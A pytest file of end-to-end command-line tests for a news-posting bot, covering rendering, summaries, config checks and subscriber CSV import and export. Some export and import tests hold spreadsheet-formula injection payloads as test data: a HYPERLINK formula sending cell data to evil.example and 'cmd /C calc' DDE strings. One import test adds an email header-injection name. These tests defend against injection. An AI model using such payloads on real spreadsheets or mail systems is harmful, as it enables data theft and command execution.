"""The command line as a user runs it: real subprocesses for the commands that matter end to end."""

from __future__ import annotations

import csv
import os
import re
import stat
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import httpx
import pytest

from bot.bsky_text import grapheme_length
from bot.channels import NAMES
from bot.cli import main
from bot.config import StateConfig
from bot.store import open_store
from bot.summarize import split_sentences
from bot.telegram_html import validate, visible_length
from bot.xtext import weighted_length
from tests.conftest import REPO, SYRIA_PAGE, news_item, newsbot, rss


def test_demo_renders_every_channel_within_limits_and_posts_nothing_the_second_time(tmp_path: Path) -> None:
    first = newsbot("demo", cwd=tmp_path)
    assert first.returncode == 0, first.stderr
    assert "Syria joins coalition" in first.stdout
    out = tmp_path / "out"
    telegram_files = list((out / "telegram").glob("*.html"))
    x_files = list((out / "x").glob("*.txt"))
    assert telegram_files and x_files
    for path in telegram_files:
        html = path.read_text(encoding="utf-8")
        validate(html)
        assert visible_length(html) <= 4096
    for path in x_files:
        text = path.read_text(encoding="utf-8").strip()
        assert weighted_length(text) <= 280
    linked = [p.read_text(encoding="utf-8") for p in x_files if "https://" in p.read_text(encoding="utf-8")]
    assert linked, "feed articles have links and every X post must keep its link"
    bluesky_posts = [p.read_text(encoding="utf-8").strip() for p in (out / "bluesky").glob("*.txt")]
    assert len(bluesky_posts) == len(x_files)
    assert all(grapheme_length(post) <= 300 for post in bluesky_posts)
    # The dry run shows a Bluesky post as it is sent: the link short, as Bluesky's app writes it (its facet holds it).
    assert all("://" not in post and "utm_source" not in post for post in bluesky_posts)
    link_lines = [post.splitlines()[-1] for post in bluesky_posts if not post.splitlines()[-1].startswith("#")]
    assert link_lines and all(re.match(r"[a-z.]+\.example\.com/\S+\.\.\.( #|$)", line) for line in link_lines)
    digest = (out / "email" / "digest.txt").read_text(encoding="utf-8")
    assert "#PoliticsNews" in digest and "Syria joins coalition" in digest
    assert "Syria joins coalition" in (out / "email" / "digest.html").read_text(encoding="utf-8")
    before = {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file() and "sqlite" not in p.name}

    second = newsbot("demo", cwd=tmp_path)
    assert second.returncode == 0, second.stderr
    assert "Nothing new" in second.stdout
    after = {p: p.stat().st_mtime_ns for p in out.rglob("*") if p.is_file() and "sqlite" not in p.name}
    assert after == before


def test_demo_posts_show_each_hashtag_once_though_the_feed_text_ends_in_it(tmp_path: Path) -> None:
    assert newsbot("demo", cwd=tmp_path).returncode == 0
    out = tmp_path / "out"
    posts = [*(out / "telegram").glob("*.html"), *(out / "x").glob("*.txt")]
    floods = [p.read_text(encoding="utf-8") for p in posts if "Po river" in p.read_text(encoding="utf-8")]
    chips = [p.read_text(encoding="utf-8") for p in posts if "chipmakers" in p.read_text(encoding="utf-8")]
    assert len(floods) == 2 and len(chips) == 2  # one Telegram and one X post each
    for post in floods:
        assert post.count("#ClimateCrisis") == 1, post
    for post in chips:
        assert post.count("#TechNews") == 1, post
    digest = (out / "email" / "digest.txt").read_text(encoding="utf-8")
    assert "two months. #ClimateCrisis" not in digest and "before 2029. #TechNews" not in digest


def page_sentences() -> set[str]:
    text = SYRIA_PAGE.read_text(encoding="utf-8")
    body = text.split("Related Articles", 1)[1].split("#PoliticsNews", 1)[0]
    return {s for para in body.split("\n\n") for s in split_sentences(para)}


def test_summarize_prints_whole_sentences_within_the_budget_for_every_size(
    capsys: pytest.CaptureFixture[str],
) -> None:
    sentences = page_sentences()
    for max_chars in range(150, 3001, 25):
        assert main(["summarize", str(SYRIA_PAGE), "--max-chars", str(max_chars)]) == 0
        summary = capsys.readouterr().out.strip()
        assert 0 < len(summary) <= max_chars
        assert "Related Articles" not in summary and "Popular Articles" not in summary and "#" not in summary
        assert not summary.endswith("…")
        remaining = summary
        for sentence in sorted(sentences, key=len, reverse=True):
            remaining = remaining.replace(sentence, "")
        assert remaining.strip() == "", f"not whole sentences at {max_chars}: {remaining!r}"
        assert not re.search(r"\bU\.\s*$", summary)


def test_summarize_as_a_real_command(tmp_path: Path) -> None:
    done = newsbot("summarize", str(SYRIA_PAGE), "--max-chars", "400", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    # The default summarizer ranks by TextRank (bench/README.md): at 400 characters the lead is not among them.
    assert done.stdout.startswith("Al-Mustafa emphasized that")
    assert len(done.stdout.strip()) <= 400


def test_preview_prints_the_channel_post_for_a_feed_entry(tmp_path: Path) -> None:
    feed = tmp_path / "feed.xml"
    feed.write_text(rss([news_item(1), news_item(2)]), encoding="utf-8")
    done = newsbot("preview", str(feed), "--channel", "x", "--entry", "2", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "https://news.example.com/2026/11/story-2" in done.stdout
    assert "entry 2 of 2" in done.stderr


def test_preview_with_analytics_on_says_how_a_live_posts_link_differs(tmp_path: Path) -> None:
    feed = tmp_path / "feed.xml"
    feed.write_text(rss([news_item(1)]), encoding="utf-8")
    (tmp_path / "config.toml").write_text(
        '[analytics]\nenabled = true\n[web]\npublic_url = "https://news.example.com/"\n', encoding="utf-8"
    )
    done = newsbot("preview", str(feed), "--channel", "x", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "https://news.example.com/2026/11/story-1" in done.stdout  # not stored, so no click link to follow
    assert "a live post links to https://news.example.com/r/… (its click link)" in done.stderr


def test_once_runs_a_cycle_and_a_second_process_on_the_same_state_is_refused(tmp_path: Path) -> None:
    feed = tmp_path / "feed.xml"
    feed.write_text(rss([news_item(1)]), encoding="utf-8")
    (tmp_path / "config.toml").write_text(
        '[output]\ndry_run = true\n[[sources]]\nname = "f"\nurl = "feed.xml"\nbackfill = 1\n'
        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["telegram"]\n',
        encoding="utf-8",
    )
    done = newsbot("once", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "1 new article(s), 1 queued, 1 sent" in done.stdout
    assert list((tmp_path / "out" / "telegram").glob("*.html"))

    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import time; from pathlib import Path; from bot.lock import StateLock;"
            f"StateLock(Path({str(tmp_path / 'newsbot.sqlite')!r})).acquire(); print('ok', flush=True); time.sleep(60)",
        ],
        env={**os.environ, "PYTHONPATH": str(REPO)},
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "ok"
        refused = newsbot("once", cwd=tmp_path)
        assert refused.returncode == 1
        assert f"another newsbot (pid {holder.pid})" in refused.stderr
    finally:
        holder.kill()
        holder.wait()


def test_bad_config_exits_2_naming_file_and_key(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[email]\nsecurity = 'ssl'\n", encoding="utf-8")
    done = newsbot("once", cwd=tmp_path)
    assert done.returncode == 2
    assert "config.toml: email.security" in done.stderr
    assert "Traceback" not in done.stderr


def test_bad_usage_exits_2(tmp_path: Path) -> None:
    assert newsbot("summarize", "x", "--max-chars", "-3", cwd=tmp_path).returncode == 2
    assert newsbot("frobnicate", cwd=tmp_path).returncode == 2


def test_help_starts_without_loading_the_channels_and_channel_choices_still_come_from_the_registry(
    tmp_path: Path,
) -> None:
    code = "import sys, bot.cli; assert 'bot.channels' not in sys.modules, 'loaded at import time'"
    assert subprocess.run([sys.executable, "-c", code], cwd=REPO, check=False).returncode == 0
    code = "import sys, bot.cli; bot.cli._parser(); assert 'bot.channels' not in sys.modules, 'loaded by the parser'"
    assert subprocess.run([sys.executable, "-c", code], cwd=REPO, check=False).returncode == 0
    assert f"one of: {', '.join(NAMES)}" in newsbot("preview", "--help", cwd=tmp_path).stdout
    assert "one of: telegram, email" in newsbot("subscribers", "export", "--help", cwd=tmp_path).stdout
    refused = newsbot("preview", "page.html", "--channel", "fax", cwd=tmp_path)
    assert refused.returncode == 2
    choices = ", ".join(f"'{name}'" for name in NAMES)
    assert f"invalid choice: 'fax' (choose from {choices})" in refused.stderr


def test_check_config_names_missing_secrets_without_printing_any(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["telegram", "email"]\n', encoding="utf-8"
    )
    secret = "123456:SECRET-TOKEN-VALUE"
    env = {
        "NEWSBOT_TELEGRAM_TOKEN": secret,
        "NEWSBOT_SMTP_USERNAME": "mailer",
        "NEWSBOT_SMTP_PASSWORD": "",
        "NEWSBOT_SECRET_KEY": "",
    }
    done = newsbot("check-config", cwd=tmp_path, env=env)
    assert done.returncode == 2
    assert "$NEWSBOT_TELEGRAM_TOKEN is set" in done.stdout
    assert "$NEWSBOT_SMTP_PASSWORD is missing" in done.stdout
    assert "NEWSBOT_SMTP_PASSWORD" in done.stderr and "NEWSBOT_SECRET_KEY" in done.stderr
    assert "NEWSBOT_DKIM_PRIVATE_KEY" not in done.stderr  # DKIM is optional
    assert secret not in done.stdout + done.stderr


def test_check_config_says_bluesky_needs_a_handle_and_an_app_password(tmp_path: Path) -> None:
    route = '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["bluesky"]\n'
    (tmp_path / "config.toml").write_text(route, encoding="utf-8")
    no_handle = newsbot("check-config", cwd=tmp_path)
    assert no_handle.returncode != 0
    assert "bluesky.handle: is required when a route posts to bluesky" in no_handle.stderr
    assert 'handle = "newsbot.bsky.social"' in no_handle.stderr and "App passwords" in no_handle.stderr
    (tmp_path / "config.toml").write_text(route + '[bluesky]\nhandle = "news.example.com"\n', encoding="utf-8")
    done = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_BLUESKY_APP_PASSWORD": ""})
    assert done.returncode == 2
    assert "channels in use: bluesky (@news.example.com)" in done.stdout
    assert "bluesky: $NEWSBOT_BLUESKY_APP_PASSWORD is missing (required: the app password of news.example.com" in (
        done.stdout
    )
    secret = "abcd-efgh-ijkl-mnop"
    done = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_BLUESKY_APP_PASSWORD": secret})
    assert done.returncode == 0 and secret not in done.stdout + done.stderr


def test_unreadable_source_in_summarize_says_which_and_why(tmp_path: Path) -> None:
    done = newsbot("summarize", str(tmp_path / "missing.txt"), cwd=tmp_path)
    assert done.returncode == 1
    assert "missing.txt" in done.stderr and "Traceback" not in done.stderr


def test_subscribers_import_and_export_round_trip(tmp_path: Path, state_env: str) -> None:  # on both backends
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "old-bot.csv").write_text(
        "chat_id,hashtags\n1001,#Climate politics\n-1002003004005,\nabc,#Nope\n1003,#good #not-a-tag\n1001,#Science\n",
        encoding="utf-8",
    )
    done = newsbot("subscribers", "import", "--channel", "telegram", "old-bot.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "2 added, 1 updated, 2 skipped" in done.stdout
    assert "line 4: chat_id 'abc' is not a Telegram chat id" in done.stdout
    assert "line 5: '#not-a-tag' is not a hashtag" in done.stdout

    exported = newsbot("subscribers", "export", cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    assert exported.stdout.splitlines() == [
        "chat_id,hashtags,watch,mute,active,status",
        "1001,#Science,,,1,",
        "-1002003004005,,,,1,",
    ]
    (tmp_path / "again.csv").write_text(exported.stdout, encoding="utf-8")
    again = newsbot("subscribers", "import", "again.csv", cwd=tmp_path)
    assert "0 added, 2 updated, 0 skipped" in again.stdout


def test_subscribers_watch_and_mute_words_go_out_with_export_and_come_back_with_import(
    tmp_path: Path, state_env: str
) -> None:  # on both backends
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    too_many = ", ".join(f"word{n}" for n in range(21))
    (tmp_path / "words.csv").write_text(
        f'chat_id,hashtags,watch,mute\n1001,#Climate,"heat wave, =mc2",Fußball\n1002,,"{too_many}",\n',
        encoding="utf-8",
    )
    done = newsbot("subscribers", "import", "words.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "1 added, 0 updated, 1 skipped\n  line 3: watch: 21 words; at most 20, separated by commas" in done.stdout

    exported = newsbot("subscribers", "export", cwd=tmp_path)
    assert exported.stdout.splitlines() == [
        "chat_id,hashtags,watch,mute,active,status",
        '1001,#Climate,"\'=mc2, heat wave",Fußball,1,',
    ]
    (tmp_path / "again.csv").write_text(exported.stdout, encoding="utf-8")
    assert "0 added, 1 updated, 0 skipped" in newsbot("subscribers", "import", "again.csv", cwd=tmp_path).stdout
    assert newsbot("subscribers", "export", cwd=tmp_path).stdout == exported.stdout


def test_subscribers_import_with_a_wrong_header_says_what_is_expected(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "bad.csv").write_text("id,tags\n1,#a\n", encoding="utf-8")
    done = newsbot("subscribers", "import", "bad.csv", cwd=tmp_path)
    assert done.returncode == 2
    assert "header needs the columns 'chat_id,hashtags' and may add watch, mute, active" in done.stderr


def test_subscribers_unsubscribe_stops_the_named_addresses_and_says_what_it_did(
    tmp_path: Path, state_env: str
) -> None:  # on both backends
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_text(
        "email,hashtags,name\nann@example.org,#Climate,Ann\nbob@example.org,,Bob\n", encoding="utf-8"
    )
    imported = newsbot("subscribers", "import", "--channel", "email", "--confirmed", "readers.csv", cwd=tmp_path)
    assert imported.returncode == 0, imported.stderr

    # As an admin would, for an "unsubscribe" mail that reached the List-Unsubscribe mailbox.
    done = newsbot(
        "subscribers", "unsubscribe", "--channel", "email", " ann@EXAMPLE.org", "zed@example.org", cwd=tmp_path
    )

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "1 unsubscribed",
        "  1 not subscribed (nothing to do): zed@example.org",
    ]
    exported = newsbot("subscribers", "export", "--channel", "email", cwd=tmp_path)
    rows = exported.stdout.splitlines()
    assert "ann@example.org,#Climate,Ann,0,unsubscribed by an admin" in rows
    assert "bob@example.org,,Bob,1," in rows


def test_subscribers_unsubscribe_with_a_malformed_address_exits_2_naming_it(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    done = newsbot("subscribers", "unsubscribe", "--channel", "email", "not an address", cwd=tmp_path)
    assert done.returncode == 2
    assert "email 'not an address': That email address contains spaces" in done.stdout
    missing = newsbot("subscribers", "unsubscribe", "ann@example.org", cwd=tmp_path)
    assert missing.returncode == 2 and "--channel" in missing.stderr


# --- subscribers import: names, encodings, oversized fields ---------------------------------------------------


def email_export(tmp_path: Path) -> list[dict[str, str]]:
    """The rows of `subscribers export --channel email`, read as a spreadsheet would (CR and LF kept as written)."""
    exported = newsbot("subscribers", "export", "--channel", "email", "--output", "export.csv", cwd=tmp_path)
    assert exported.returncode == 0, exported.stderr
    with (tmp_path / "export.csv").open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_import_checks_each_name_and_imports_a_bad_ones_subscriber_without_it(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_text(
        "email,hashtags,name\n"
        "ann@example.org,#Climate,Ann  Lee\n"
        'mallory@example.org,,"Mallory\r\nBcc: victim@example.net"\n'
        f"long@example.org,,{'L' * 101}\n",
        encoding="utf-8",
        newline="",
    )
    done = newsbot("subscribers", "import", "--channel", "email", "--confirmed", "readers.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "readers.csv: 3 added, 0 updated, 0 skipped; 2 name(s) left out",
        "  line 3: name 'Mallory??Bcc: victim@example.net' left out: The name can have letters, digits, spaces,"
        ' dots, hyphens and apostrophes, but not quotes, brackets, "=?", @, commas or control characters.',
        f"  line 5: name '{'L' * 59}…' left out: Please keep the name to 100 characters.",  # 3 and 4 are one row
    ]
    names = {row["email"]: row["name"] for row in email_export(tmp_path)}
    assert names == {"ann@example.org": "Ann Lee", "mallory@example.org": "", "long@example.org": ""}


FORMULAS = {
    "eq@example.org": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "plus@example.org": "+cmd|' /C calc'!A0",
    "minus@example.org": "-2+3+cmd|' /C calc'!A0",
    "at@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab@example.org": "\t=1+1",
    "cr@example.org": "\r=1+1",
    "=1+2@example.org": "Plain Name",
}


def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    store = open_store(tmp_path / "newsbot.sqlite")
    now = datetime.now(UTC)
    for address, name in FORMULAS.items():  # as the web form of an older newsbot stored them
        store.request_email_subscription(address, (), now, name=name)
    store.confirm_email("eq@example.org", now)
    store.deactivate_subscriber("email", "eq@example.org", "=HYPERLINK(1)", now)
    store.subscribe("telegram", "-1002003004005", now)
    store.close()

    rows = {row["email"]: row for row in email_export(tmp_path)}

    assert {address: row["name"] for address, row in rows.items()} == {
        "eq@example.org": "'" + FORMULAS["eq@example.org"],
        "plus@example.org": "'" + FORMULAS["plus@example.org"],
        "minus@example.org": "'" + FORMULAS["minus@example.org"],
        "at@example.org": "'" + FORMULAS["at@example.org"],
        "tab@example.org": "'\t=1+1",
        "cr@example.org": "'\r=1+1",
        "'=1+2@example.org": "Plain Name",
    }
    assert rows["eq@example.org"]["status"] == "'=HYPERLINK(1)"
    telegram = newsbot("subscribers", "export", cwd=tmp_path).stdout
    assert telegram.splitlines()[1] == "-1002003004005,,,,1,"  # a number is not a formula: left as it is


def test_an_exported_file_imports_back_to_the_same_names_and_addresses(
    tmp_path: Path, state_env: str
) -> None:  # on both backends
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_text(
        "email,hashtags,name\n"
        "plus@example.org,#Climate,+cmd|' /C calc'!A0\n"
        "minus@example.org,,-2+3\n"
        "=1+2@example.org,,Plain Name\n"
        "dutch@example.org,,'t Hooft\n",
        encoding="utf-8",
    )
    assert newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path).returncode == 0
    first = newsbot("subscribers", "export", "--channel", "email", "--output", "first.csv", cwd=tmp_path)
    assert first.returncode == 0, first.stderr

    again = newsbot("subscribers", "import", "--channel", "email", "first.csv", cwd=tmp_path)

    assert again.stdout.strip() == "first.csv: 0 added, 4 updated, 0 skipped"
    names = {row["email"]: row["name"] for row in email_export(tmp_path)}
    assert names == {
        "plus@example.org": "'+cmd|' /C calc'!A0",
        "minus@example.org": "'-2+3",
        "'=1+2@example.org": "Plain Name",
        "dutch@example.org": "'t Hooft",
    }
    store = open_store(StateConfig(path=tmp_path / "newsbot.sqlite"))  # $NEWSBOT_DATABASE_URL wins, as in newsbot
    stored = {s.address: s.name for s in store.iter_email_subscribers(active_only=False)}
    store.close()
    assert stored == {
        "plus@example.org": "+cmd|' /C calc'!A0",
        "minus@example.org": "-2+3",
        "=1+2@example.org": "Plain Name",
        "dutch@example.org": "'t Hooft",
    }


def test_a_latin_1_file_imports_its_utf_8_lines_and_names_each_other_line(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_bytes(
        "email,hashtags,name\nann@example.org,#Climate,Ann\nbea@example.org,,Béatrice\ncid@example.org,,Cid\n".encode(
            "latin-1"
        )
    )
    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "readers.csv: 2 added, 0 updated, 1 skipped",
        "  line 3: not UTF-8 (a Latin-1 or Windows-1252 file?); save the file as CSV UTF-8 and import it again",
    ]
    assert "Traceback" not in done.stderr


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_a_file_with_a_byte_order_mark_is_read_in_its_encoding(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    text = "email,hashtags,name\r\nbea@example.org,#Climate,Béatrice Ōta\r\n"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data  # Python writes no BOM for an explicit byte order; Windows tools do
    (tmp_path / "readers.csv").write_bytes(data)
    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
    assert done.stdout.strip() == "readers.csv: 1 added, 0 updated, 0 skipped", done.stderr
    assert email_export(tmp_path)[0]["name"] == "Béatrice Ōta"


def test_a_utf_16_file_without_a_byte_order_mark_says_how_to_save_it(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_bytes("email,hashtags,name\nbea@example.org,,Bea\n".encode("utf-16-le"))
    done = newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
    assert done.returncode == 2
    assert done.stderr.strip() == (
        "newsbot: readers.csv: the header is not UTF-8 text (UTF-16 without a byte order mark?);"
        " save the file as CSV UTF-8 and import it again"
    )


def test_a_field_over_128_kb_is_reported_and_the_next_lines_are_imported(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "big.csv").write_text(
        "chat_id,hashtags\n1001,#a\n1002," + "#a " * 50_000 + "\n\n1003,#b\n", encoding="utf-8"
    )
    done = newsbot("subscribers", "import", "big.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "big.csv: 2 added, 0 updated, 1 skipped",
        "  line 3: a field is longer than 128 KB",
    ]
    assert "Traceback" not in done.stderr


def test_export_to_a_file_creates_it_readable_by_the_owner_only(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    (tmp_path / "readers.csv").write_text("email,hashtags,name\nann@example.org,,Ann\n", encoding="utf-8")
    newsbot("subscribers", "import", "--channel", "email", "readers.csv", cwd=tmp_path)
    older = tmp_path / "older-export.csv"
    older.write_text("left by an older newsbot\n", encoding="utf-8")
    older.chmod(0o644)
    for output in ("export.csv", "older-export.csv"):
        done = subprocess.run(
            [sys.executable, "-m", "bot", "subscribers", "export", "--channel", "email", "--output", output],
            cwd=tmp_path,
            env={**os.environ, "PYTHONPATH": str(REPO)},
            capture_output=True,
            text=True,
            umask=0o022,  # what most shells give: without care the file would be 0644
        )
        assert done.returncode == 0, done.stderr
        assert done.stderr.strip() == f"1 subscriber(s) written to {output}"
        assert oct(stat.S_IMODE((tmp_path / output).stat().st_mode)) == "0o600"
        lines = (tmp_path / output).read_text(encoding="utf-8").splitlines()
        assert lines[1] == "ann@example.org,,Ann,0,awaiting confirmation"


# --- the command line itself ----------------------------------------------------------------------------------


def write_feed_config(tmp_path: Path) -> None:
    (tmp_path / "feed.xml").write_text(rss([news_item(1)]), encoding="utf-8")
    (tmp_path / "config.toml").write_text(
        '[output]\ndry_run = true\n[[sources]]\nname = "f"\nurl = "feed.xml"\nbackfill = 1\n'
        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["telegram"]\n',
        encoding="utf-8",
    )


@pytest.mark.parametrize("order", [("once", "-v"), ("-v", "once"), ("once", "--verbose")], ids=" ".join)
def test_verbose_works_before_and_after_the_command(tmp_path: Path, order: tuple[str, ...]) -> None:
    write_feed_config(tmp_path)
    done = newsbot(*order, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "DEBUG newsbot.ingest event=routed" in done.stderr  # which route took the article, and why


def test_without_verbose_there_are_no_debug_lines_and_config_works_after_the_command(tmp_path: Path) -> None:
    write_feed_config(tmp_path)
    (tmp_path / "config.toml").rename(tmp_path / "other.toml")
    done = newsbot("once", "--config", "other.toml", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "DEBUG" not in done.stderr
    nested = newsbot("subscribers", "export", "-v", "--config", "other.toml", cwd=tmp_path)
    assert nested.returncode == 0, nested.stderr


def test_check_config_says_which_secrets_are_optional_for_a_relay_without_login_or_dkim(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["email"]\n'
        '[email]\nsecurity = "none"\nsmtp_host = "localhost"\nsmtp_port = 25\n',
        encoding="utf-8",
    )
    done = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_SECRET_KEY": "a-secret-long-enough-0123456789"})
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-4:] == [
        "  email: $NEWSBOT_SMTP_USERNAME is not set (optional: only if your relay needs a login)",
        "  email: $NEWSBOT_SMTP_PASSWORD is not set (optional: only with $NEWSBOT_SMTP_USERNAME)",
        "  email: $NEWSBOT_DKIM_PRIVATE_KEY is not set (optional: only with [email] dkim_selector)",
        "  email: $NEWSBOT_SECRET_KEY is set (required: signs the links in the mail)",
    ]
    assert done.stderr == ""


def test_check_config_says_which_secrets_a_login_and_dkim_make_required(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text(
        '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["email"]\n[email]\ndkim_selector = "news2026"\n',
        encoding="utf-8",
    )
    env = {"NEWSBOT_SMTP_USERNAME": "mailer", "NEWSBOT_SECRET_KEY": ""}
    done = newsbot("check-config", cwd=tmp_path, env=env)
    assert done.returncode == 2
    assert done.stdout.splitlines()[-4:] == [
        "  email: $NEWSBOT_SMTP_USERNAME is set (optional: only if your SMTP server needs a login)",
        "  email: $NEWSBOT_SMTP_PASSWORD is missing (required: $NEWSBOT_SMTP_USERNAME is set)",
        "  email: $NEWSBOT_DKIM_PRIVATE_KEY is missing (required: [email] dkim_selector is set)",
        "  email: $NEWSBOT_SECRET_KEY is missing (required: signs the links in the mail)",
    ]
    assert done.stderr.strip() == (
        "newsbot: set the missing environment variable(s):"
        " NEWSBOT_SMTP_PASSWORD, NEWSBOT_DKIM_PRIVATE_KEY, NEWSBOT_SECRET_KEY"
    )


def test_export_into_a_pipe_closed_early_ends_quietly(tmp_path: Path) -> None:
    (tmp_path / "config.toml").write_text("[output]\ndry_run = true\n", encoding="utf-8")
    rows = "".join(f"{1_000_000 + n},#Climate #Science\n" for n in range(20_000))  # far more than a pipe holds
    (tmp_path / "many.csv").write_text("chat_id,hashtags\n" + rows, encoding="utf-8")
    assert newsbot("subscribers", "import", "many.csv", cwd=tmp_path).returncode == 0
    # As `newsbot subscribers export | head -1`: the reader takes one line and goes away.
    export = subprocess.Popen(
        [sys.executable, "-m", "bot", "subscribers", "export"],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(REPO)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert export.stdout is not None and export.stderr is not None
    assert export.stdout.readline() == b"chat_id,hashtags,watch,mute,active,status\r\n"
    export.stdout.close()
    errors = export.stderr.read().decode()
    assert export.wait(timeout=60) == 141  # as a shell reports a command ended by SIGPIPE
    assert errors == ""


def test_check_config_lists_the_telegram_chats_and_topics_and_refuses_a_bad_topic(tmp_path: Path) -> None:
    routes = '[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["telegram"]\n'
    config = tmp_path / "config.toml"
    config.write_text(routes + '[telegram]\nchannel = ["@mynews", "-1001234567890/42"]\n', encoding="utf-8")
    done = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_TELEGRAM_TOKEN": "123:abc"})
    assert done.returncode == 0, done.stderr
    assert "  channels in use: telegram (@mynews, -1001234567890/42)" in done.stdout.splitlines()

    config.write_text(routes + '[telegram]\nchannel = "-1001234567890/general"\n', encoding="utf-8")
    refused = newsbot("check-config", cwd=tmp_path, env={"NEWSBOT_TELEGRAM_TOKEN": "123:abc"})
    assert refused.returncode != 0
    assert "telegram.channel: “-1001234567890/general” is not a chat id" in refused.stderr
    assert "Traceback" not in refused.stderr


# --- newsbot web: what is configured, and only that ---------------------------------------------------------


def _web_config(folder: Path, port: int, extra: str = "") -> None:
    """A config routing to email (the digest in use) without any [email] settings, with `extra` tables."""
    (folder / "config.toml").write_text(
        f'[web]\nport = {port}\n{extra}\n[[routes]]\nname = "all"\nhashtags = ["*"]\nchannels = ["email"]\n',
        encoding="utf-8",
    )


def test_web_serves_the_control_room_without_the_email_settings(tmp_path: Path) -> None:
    from tests.test_ops import free_port
    from tests.test_run_process import start_newsbot, wait_for

    port = free_port()
    _web_config(tmp_path, port, 'public_url = "https://news.example.com"\n[telegram]\nadmins = [1000]')
    web = start_newsbot(tmp_path, "-m", "bot", "web", env={"NEWSBOT_SECRET_KEY": "web-test-secret-0123456789"})
    try:
        base = f"http://127.0.0.1:{port}"

        def answers() -> bool:
            try:
                return httpx.get(f"{base}/admin/signin", timeout=5).status_code == 200
            except httpx.TransportError:
                return web.poll() is not None  # it exited: stop waiting

        assert wait_for(answers, 60) and web.poll() is None
        assert httpx.get(f"{base}/", timeout=5).status_code == 404  # no subscription pages without [email]
    finally:
        web.terminate()
        _out, err = web.communicate(timeout=30)
    assert "subscription_pages_off" in err and "[email] sender" in err


def test_web_with_nothing_to_serve_says_what_to_set(tmp_path: Path) -> None:
    _web_config(tmp_path, 8080)
    done = newsbot("web", cwd=tmp_path, env={"NEWSBOT_SECRET_KEY": ""})
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "newsbot web has nothing to serve" in done.stderr
    assert "Set [web] public_url, [telegram] admins and $NEWSBOT_SECRET_KEY for the control room" in done.stderr
    assert "[analytics] enabled = true" in done.stderr and "[web] metrics = true" in done.stderr
